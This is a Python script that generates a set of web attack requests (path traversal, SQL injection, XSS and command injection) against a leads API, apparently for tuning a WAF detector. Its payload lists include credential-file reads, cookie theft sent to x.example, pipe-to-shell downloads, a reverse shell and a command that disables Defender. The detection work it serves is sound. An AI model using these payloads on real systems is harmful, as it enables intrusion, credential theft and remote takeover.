#!/usr/bin/env python3
"""Grows a development set of attacks from the techniques of each class, not from any corpus.

Writes `attacks-grown.jsonl` in the format of `crs-attacks.jsonl` (id, class, method, uri,
headers, body): every payload is sent twice, as `GET /api/v1/leads?q=<payload>` and as the
`title` of a JSON lead, which is how LeadGen's validation set (`../shared/data/waf-payloads`) is
fed too. The payloads are built by combining, for each class, the evasion techniques published
for it (encodings, separators, quoting contexts, vectors), so a detector tuned here is tuned to
the technique, not to a line. The validation set is never read by this script.

Deterministic: `python3 grow_attacks.py` always writes the same file.
"""

import itertools
import json
import random
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
RNG = random.Random(20261202)

# ---- path traversal: climbing out of a root, with every encoding servers have undone ----

DOTS = [".%00.", "..%00", "..%01", ".?", "??", "?.", "%c0%6e%c0%6e", "%c0.%c0.", "%c0%2e%c0%2e", "%f0%80%80%ae%f0%80%80%ae", "..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
        "%u002e%u002e", "%uff0e%uff0e", "0x2e0x2e", "%%32%65%%32%65", "%25c0%25ae%25c0%25ae",
        "\u2025", "....", "...", "..."]
SEPARATORS = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c",
              "%e0%80%af", "%u2215", "%u2216", "%uff0f", "%ef%bc%8f", "0x2f", "0x5c", "%%32%66",
              "//", "\\\\", "/./", "%25c0%25af", "%c1%1c", "%uEFC8", "%uF025",
              "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%%35c", "%25%35%63",
              "%25%32%66", "%c0%qf", "%bg%qf", "%c1%pc", "%c0%9v", "%c1%8s"]
TARGETS = ["etc/passwd", "etc/shadow", "etc/issue", "etc/hosts", "etc/group", "windows/win.ini",
           "boot.ini", "winnt/win.ini", "windows/system32/drivers/etc/hosts", "proc/self/environ",
           "proc/self/cmdline", "var/log/apache2/access.log", "var/log/nginx/error.log",
           "inetpub/wwwroot/web.config", "WEB-INF/web.xml", "etc/httpd/conf/httpd.conf",
           "usr/local/apache/conf/httpd.conf", "root/.ssh/id_rsa", "home/user/.bash_history",
           "windows/system.ini", "etc/nginx/nginx.conf", "var/www/html/index.php"]
SUFFIXES = ["", "", "", "%00", "%00.jpg", "%00.html", "?", "%23", ";.png", "%2500"]


def traversal():
    out = []
    for dots, sep in itertools.product(DOTS, SEPARATORS):
        depth = RNG.randint(2, 9)
        target = RNG.choice(TARGETS)
        target = target.replace("/", sep) if RNG.random() < 0.5 else target
        prefix = RNG.choice(["", "", "/", "./", "file:///", "c:" + sep])
        out.append(prefix + (dots + sep) * depth + target + RNG.choice(SUFFIXES))
    # Absolute paths to sensitive files, local and UNC.
    for t in TARGETS:
        out.append("/" + t)
        out.append("file:///" + t)
        out.append("\\\\localhost\\c$\\" + t.replace("/", "\\"))
        out.append("c:\\" + t.replace("/", "\\"))
    # One level with a sensitive target, filter-stripping bypasses.
    for t in TARGETS[:8]:
        out += ["../" + t, "....//....//" + t, "..././..././" + t, "..;/..;/" + t, ".%00./" + t]
    return out


# ---- SQL injection: breaking out of each quoting context into SQL grammar ----

CONTEXTS = ["", "'", '"', "1", "1'", '1"', "')", '")', "'))", "1)", "-1", "x'"]
TAILS = ["-- -", "--", "#", "/*", ";--", "-- x", "", "%00", " and '1'='1", " or 'a'='a"]
BODIES = [
    " or 1=1", " or '1'='1'", " or 2>1", " or true", " || 1=1", " and 1=2", " and sleep(5)",
    " or benchmark(10000000,md5(1))", "; waitfor delay '0:0:5'", "; select pg_sleep(5)",
    " union select null,null,null", " union all select username,password from users",
    " union select @@version", " union select 1,2,table_name from information_schema.tables",
    " and extractvalue(1,concat(0x7e,version()))", " and updatexml(1,concat(0x7e,user()),1)",
    " and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "; drop table users", "; exec xp_cmdshell 'dir'", "; declare @q varchar(99) set @q='x' exec(@q)",
    " order by 5", " group by 1 having 1=1", " and ascii(substring(user(),1,1))>64",
    " and 1=(select count(*) from users)", " or exists(select * from users)",
    " and if(1=1,sleep(3),0)", " rlike (select (case when (1=1) then 1 else 0x28 end))",
    " procedure analyse()", " into outfile '/tmp/x'", " and load_file('/etc/passwd')",
    " or 1 like 1", " or 'x' in ('x')", " and 1 between 0 and 2", " or char(65)=char(65)",
    " and dbms_pipe.receive_message('a',5)=1", " and 1=convert(int,@@version)",
    " union select * from (select 1)a join (select 2)b", " and (select substr(banner,1,1) from v$version)='o'",
]
OBFUSCATE = [
    lambda s: s,
    lambda s: s.upper(),
    lambda s: s.replace(" ", "/**/"),
    lambda s: s.replace(" ", "%09"),
    lambda s: s.replace(" ", "%0a"),
    lambda s: s.replace(" ", "+"),
    lambda s: s.replace("select", "SeLeCt").replace("union", "UnIoN"),
    lambda s: s.replace("union select", "union/*!50000select*/"),
    lambda s: urllib.parse.quote(s, safe=""),
    lambda s: urllib.parse.quote(urllib.parse.quote(s, safe=""), safe=""),
    lambda s: s.replace(" or ", " || ").replace(" and ", " && "),
    lambda s: s.replace("=", " like "),
]


# Families of published payloads, written from the techniques (auth bypass, fuzzing probes,
# database-specific enumeration, time-based blind, polyglots), each varied over quotes.
def sqli_families():
    out = []
    for q in ["'", '"']:
        for x in ["a", "x", "1", "hi"]:
            out += [f"{q} or {q}{x}{q}={q}{x}", f"{q}) or ({q}{x}{q}={q}{x}", f"{x}{q} or 1=1 --",
                    f"{q} or 0=0 #", f"admin{q} --", f"admin{q} #", f"admin{q})--", f"{q} OR 1 -- -",
                    f"{q}='", f"{q}LIKE{q}", f"{q}=0--+", f"{x}{q} AND id IS NULL; --",
                    f"{q}/**/OR/**/1/**/=/**/1", f"{q} or 1/*", f"{q} or sleep(5)={q}",
                    f"{x}{q} or benchmark(10000000,MD5(1))#", f"{q};waitfor delay '0:0:5'--",
                    f"1{q} ORDER BY 3--+", f"1{q} GROUP BY 1,2,--+", f"-1{q} UNION SELECT 1,2,3--+",
                    f"{q} GROUP BY columnnames having 1=1 --", f"{q} and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --"]
    # Numeric context: the application's number, then SQL.
    for x in ["1", "0", "-1", "99"]:
        out += [f"{x} or 1=1--", f"{x} or a=a", f"{x} AND id IS NULL; --", f"{x} or 1/*", f"{x} OR 1 -- -",
                f"{x} GROUP BY 1 having 1=1 --", f"{x} or isnull(1/0) /*", f"{x}) or (1=1"]
    out += ["'; exec master..xp_cmdshell 'ping 10.10.1.2'--", "'; if not(substring((select @@version),25,1) <> 8) waitfor delay '0:0:15' --",
            "'; begin declare @v varchar(99) select @v=name from users end --", "' union select * from users where login = char(114,111,111,116);",
            "'; EXEC ('SEL' + 'ECT US' + 'ER')", "'; EXECUTE IMMEDIATE 'SEL' || 'ECT US' || 'ER'", "UNI/**/ON SEL/**/ECT 1,2",
            "password:*/=1--", "+or+isnull(1/0)+/*", "' union select 1,load_file('/etc/passwd'),1,1,1;",
            "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;", "' || UTL_HTTP.REQUEST('http://x.example/')||'",
            "' and 1=(select count(*) from all_users)--", "' AND (SELECT banner FROM v$version WHERE rownum=1) LIKE 'Oracle%'--",
            "select version();", "select current_database();", "select usename from pg_user;", "select pg_read_file('/etc/passwd',0,200);",
            ";select pg_sleep(10)--", "sleep(5)#", "1 or sleep(5)#", "1) or sleep(5)#", "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
            "AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", "waitfor delay '00:00:05'",
            "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", ",(select * from (select(sleep(10)))a)",
            "1 AND (SELECT * FROM Users) = 1", "' AND MID(VERSION(),1,1) = '5';", "-1 UNION SELECT 1 INTO @,@",
            "select @@version", "select name from master..sysdatabases", "select user_name()", "select host, user from mysql.user",
            "' or ''='", "\"' or 1 --'\"", "or 1=1--", "' or a=a--", "hi' or 1=1 --", "'hi' or 'x'='x';",
            "1 and user_name() = 'dbo'", "' and substring(password/text(),1,1)='7", "1 union all select null,null,null--",
            "AND 1=1", "AND 1=0", "1-false", "' AND 1=CONVERT(int,(SELECT @@version))--", "1' and extractvalue(rand(),concat(0x3a,(select version())))--",
            "' OR EXISTS(SELECT 1 FROM dual)--", "1 RLIKE (SELECT 1)", "admin' or '1'='1'/*", "') or true--", "\") or true--",
            # NoSQL operators, integer boundaries, JSON operators, MySQL's bare exponent, merge.
            '{"login": {"$gt": ""}}', "login[$ne]=nobody", '{"$where": "this.a == this.b"}', "[$regex]=^a",
            "2147483647", "-2147483648", "4294967296", "9223372036854775808", "1e400", "2.2250738585072011e-308",
            "1' and '{}'::jsonb @> '{}'::jsonb--", "' or data->>'role' = 'admin'--", "1.e(select 1)",
            "1.e,version() from users", "' or match(title) against('x')--",
            "merge into accounts using dual on (1=1) when matched then delete"]
    return out


def sqli():
    out = sqli_families()
    for body in BODIES:
        for _ in range(4):
            ctx, tail = RNG.choice(CONTEXTS), RNG.choice(TAILS)
            out.append(RNG.choice(OBFUSCATE)(ctx + body + tail))
    # Stand-alone payloads an application would concatenate (numeric context, stacked queries).
    out += ["1;select pg_sleep(5)", "1 waitfor delay '0:0:5'", "admin'--", "admin' #", "' or ''='",
            "'=''or'", "' or 1--", "\" or \"\"=\"", "1' and '1'='1", "') or ('1'='1",
            "1 or 1=1", "-1 union select 1,2,3", "x' and 1=0 union select null--"]
    return out


# ---- XSS: markup and script in every context the browser will run it ----

TAGS = ["script", "img", "svg", "body", "iframe", "video", "audio", "details", "input", "a",
        "math", "object", "embed", "marquee", "div", "style", "link", "form", "button", "select",
        "textarea", "keygen", "isindex", "table", "xss", "frameset"]
EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin",
          "onanimationstart", "onpointerenter", "onwheel", "onstart", "onfinish", "onresize",
          "onpageshow", "onhashchange", "onblur", "oninput", "onchange", "onkeyup", "onmouseenter"]
JS = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "eval(atob('YWxlcnQoMSk='))",
      "fetch('//x.example/'+document.cookie)", "location='javascript:alert(1)'", "top[/al/.source+/ert/.source](1)",
      "window['al'+'ert'](1)", "self[`alert`](1)", "import('//x.example/x.js')", "(alert)(1)",
      "setTimeout('alert(1)')", "new Function`alert\\`1\\``", "document.write('<img src=x>')"]
URL_SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "javascript&colon;",
               "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:", "data:text/html,<script>"]
XSS_BREAK = ["", "\">", "'>", "</title>", "</textarea>", "-->", "</script>", "\"><", "';", "\";"]


def xss_families():
    js = ["alert('XSS')", "alert(String.fromCharCode(88,83,83))", "alert(document.cookie)", "prompt(1)"]
    out = []
    for a in js:
        out += [f"<IMG SRC=javascript:{a}>", f"<IMG SRC=JaVaScRiPt:{a}>", f"<IMG SRC=`javascript:{a}`>",
                f"<IMG \"\"\"><SCRIPT>{a}</SCRIPT>\">", f"<IMG SRC=\"jav\tascript:{a};\">", f"<IMG SRC=\"jav&#x09;ascript:{a};\">",
                f"<IMG SRC=\" &#14;  javascript:{a};\">", f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={a}>", f"<<SCRIPT>{a};//<</SCRIPT>",
                f"\\\";{a};//", f"</TITLE><SCRIPT>{a};</SCRIPT>", f"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{a};\">",
                f"<BODY BACKGROUND=\"javascript:{a}\">", f"<IMG DYNSRC=\"javascript:{a}\">", f"<IMG LOWSRC=\"javascript:{a}\">",
                f"<STYLE>li {{list-style-image: url(\"javascript:{a}\");}}</STYLE><UL><LI>XSS</br>",
                f"<BGSOUND SRC=\"javascript:{a};\">", f"<BR SIZE=\"&{{{a}}}\">", f"<LINK REL=\"stylesheet\" HREF=\"javascript:{a};\">",
                f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{a};\">", f"<TABLE BACKGROUND=\"javascript:{a}\">",
                f"<TD BACKGROUND=\"javascript:{a}\">", f"<DIV STYLE=\"background-image: url(javascript:{a})\">",
                f"<DIV STYLE=\"width: expression({a});\">", f"<BASE HREF=\"javascript:{a};//\">", f"<svg/onload={a}>",
                f"\"><img src=x onerror={a}>", f"'\"--></style></script><script>{a}</script>", f"<a href=\"javascript:{a}\">x</a>",
                f"<details open ontoggle={a}>", f"<marquee onstart={a}>", f"<video><source onerror=\"{a}\">", f"<audio src onloadstart={a}>",
                f"<isindex action=javascript:{a} type=image>", f"<frameset onload={a}>", f"<object onerror={a}>",
                f"javascript:{a}", f"<iframe srcdoc=\"<script>{a}</script>\">", f"<x onclick={a}>click"]
    out += ["<IMG SRC='vbscript:msgbox(\"XSS\")'>", "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
            "<SCRIPT SRC=http://xss.example/xss.js?< B >", "<iframe src=http://xss.example/scriptlet.html <",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
            "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>", "<XSS STYLE=\"behavior: url(xss.htc);\">",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
            "<svg><script>alert&#40;1&#41;</script>", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"]
    return out


def xss():
    out = xss_families()
    for tag in TAGS:
        ev, js = RNG.choice(EVENTS), RNG.choice(JS)
        brk = RNG.choice(XSS_BREAK)
        out.append(f"{brk}<{tag} {ev}={js}>")
        out.append(f"{brk}<{tag.upper()}/{ev}=\"{js}\">")
        out.append(f"{brk}<{tag} src=x {ev}={js}//")
    for scheme in URL_SCHEMES:
        out.append(f"<a href=\"{scheme}alert(1)\">x</a>")
        out.append(f"<iframe src=\"{scheme}alert(1)\"></iframe>")
        out.append(f"<form action={scheme}alert(1)><button>x")
    for js in JS:
        out.append(f"<script>{js}</script>")
        out.append(f"\";{js}//")
        out.append(f"'-{js}-'")
        out.append(urllib.parse.quote(f"<script>{js}</script>", safe=""))
    out += ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<style>@import 'javascript:alert(1)';</style>", "<div style=\"width:expression(alert(1))\">",
            "<object data=\"javascript:alert(1)\">", "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "%253Cscript%253Ealert(1)%253C/script%253E",
            "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=`x` onerror=alert(1)>",
            "<svg/onload=alert(1)>", "<body onpageshow=alert(1)>", "<x contenteditable onblur=alert(1)>lose focus!",
            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"]
    return out


# ---- command injection: a separator, then a command in command position ----

SEPS = [";", "|", "||", "&", "&&", "\n", "%0a", "%0d%0a", "`", "$(", "${IFS}", "%26%26", "%7c"]
COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ping -c 3 127.0.0.1",
            "sleep 5", "nslookup x.example", "curl http://x.example/s.sh|sh", "wget x.example/a -O /tmp/a",
            "nc -e /bin/sh x.example 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "echo vulnerable",
            "powershell -c iex", "cmd /c dir", "net user", "type c:\\windows\\win.ini", "dir c:\\",
            "/bin/cat /etc/shadow", "python -c 'import os'", "perl -e 'print 1'", "php -r 'echo 1;'",
            "rm -rf /tmp/x", "chmod +x /tmp/a", "busybox telnetd", "certutil -urlcache -f http://x.example/a a.exe",
            "Invoke-WebRequest http://x.example/a.ps1 -OutFile a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.example/')",
            "Get-Content C:\\secrets.txt", "Set-MpPreference -DisableRealtimeMonitoring $true", "Start-Process notepad.exe"]
CMD_OBFUSCATE = [
    lambda c: c,
    lambda c: c.replace(" ", "${IFS}"),
    lambda c: c.replace(" ", "$IFS$9"),
    lambda c: c.replace(" ", "%09"),
    lambda c: c.replace("cat", "c'a't").replace("whoami", "w'h'o'am'i").replace("id", "i\\d"),
    lambda c: c.replace("cat", "/???/c?t").replace("/etc/passwd", "/e??/p?ss?d"),
    lambda c: c.replace(" ", "<"),
    lambda c: "{" + c.replace(" ", ",") + "}",
]


def cmdi():
    out = []
    for cmd in COMMANDS:
        for _ in range(3):
            sep, ob = RNG.choice(SEPS), RNG.choice(CMD_OBFUSCATE)
            lead = RNG.choice(["", "127.0.0.1", "x", "a.txt", "'", "\""])
            closing = ")" if sep == "$(" else ("`" if sep == "`" else "")
            out.append(f"{lead}{sep}{ob(cmd)}{closing}")
    # SQLite's shell, when a value reaches `sqlite3` as input.
    out += [".shell id", ".system cat /etc/passwd", "x;\n.shell curl http://x.example/s.sh"]
    return out


def write():
    rows = []
    for cls, payloads in [("path_traversal", traversal()), ("sqli", sqli()), ("xss", xss()), ("rce", cmdi())]:
        for i, p in enumerate(payloads):
            rows.append({"id": f"grown-{cls}-{i}-q", "class": cls, "method": "GET",
                         "uri": "/api/v1/leads?q=" + urllib.parse.quote(p, safe="%"),
                         "headers": {"Accept": "application/json"}, "body": None})
            body = json.dumps({"first_name": "Ann", "last_name": "Lee", "title": p, "company_name": "Acme"})
            rows.append({"id": f"grown-{cls}-{i}-json", "class": cls, "method": "POST", "uri": "/api/v1/leads",
                         "headers": {"Content-Type": "application/json", "Accept": "application/json"},
                         "body": body})
    with open(HERE / "attacks-grown.jsonl", "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    write()
